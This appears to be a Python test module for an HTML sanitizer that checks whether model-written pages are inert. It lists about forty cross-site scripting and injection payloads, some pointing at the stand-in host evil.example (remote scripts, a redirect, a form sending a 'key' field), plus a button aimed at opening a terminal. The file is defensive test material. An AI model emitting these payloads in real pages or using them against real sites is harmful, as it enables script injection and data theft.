"""What a model may write to attack its readers, and what it takes for HTML to be inert."""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"/onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">click</a>',
    '<a href="\x01javascript:alert(1)">click</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<body onload=alert(1)>",
    "<style>@import url(//evil.example);</style>",
    '<div style="background:url(javascript:alert(1));position:fixed;top:0">x</div>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=key><button>send</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "'\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "--><script>alert(1)</script><!--",
    "</textarea></title></figcaption></table></pre><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[click](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```{=html}\n<script>alert(1)</script>\n```",
    "$\\href{javascript:alert(1)}{x}$ and \\(\\require{html}\\)",
    "$\\frac{$ 5 $",
    '<button data-commandlinker-command="terminal:create-new">run</button>',
    '<figure class="instit-figure"><img src="data:image/png;base64,AAAA" alt="x" width="1" onload=alert(1)></figure>',
    "\u202e<script>alert(1)</script>\x1b[31m\0",
]
SAFE = set(
    "a abbr b blockquote body br caption code dd defs del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 head hr html i "
    "img kbd li main marker meta nav ol p path pre rect s span strong style sub summary sup svg table tbody td text tfoot th "
    "thead title tr ul".split()
)
SCHEME = re.compile(r"[\x00-\x20]*([a-zA-Z][\w+.-]*):")
PICTURE = re.compile(r"data:image/png;base64,[\w+/=]+")


class Elements(HTMLParser):
    """The elements of a page as (tag, attributes), and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def shape(html: str, texts: tuple[str, ...] = ("alt", "title")) -> list[tuple[str, tuple]]:
    """What of a page can act: its elements and attributes, without the values that are only text."""
    return [
        (tag, tuple(sorted((k, None if k in texts else v) for k, v in attrs.items()))) for tag, attrs in Elements(html).found
    ]


def check_inert(html: str) -> None:
    """Fail where a page holds an element, an attribute or an address that could act."""
    for tag, attrs in Elements(html).found:
        assert tag in SAFE, f"<{tag}>"
        for name, value in attrs.items():
            assert not name.startswith("on") and not name.startswith("data-") and name not in ("srcset", "action", "style"), name
            scheme = SCHEME.match(value or "")
            if name == "src":
                assert PICTURE.fullmatch(value), value
            elif name in ("href", "xlink:href"):
                assert not scheme or scheme[1] in ("http", "https"), value
